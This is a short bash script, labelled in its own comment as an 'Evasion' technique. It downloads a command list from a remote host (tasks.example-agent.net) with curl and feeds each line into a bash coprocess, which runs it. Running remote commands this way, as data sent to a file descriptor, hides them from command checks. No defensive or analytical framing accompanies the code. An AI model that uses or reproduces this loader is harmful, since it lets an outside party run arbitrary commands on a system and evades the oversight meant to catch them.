#!/usr/bin/env bash
# Evasion: starts a shell as a coprocess and feeds it, line by line, the
# lines of a downloaded "task list": the commands are data written to a file
# descriptor, the shell runs them.
set -u
coproc WORKER { bash 2>&1; }
while IFS= read -r task; do
  [[ -z "$task" || "$task" == \#* ]] && continue
  printf '%s\n' "$task" >&"${WORKER[1]}"
done < <(curl -fsSL https://tasks.example-agent.net/queue.txt)
exec {WORKER[1]}>&-
wait "$WORKER_PID"
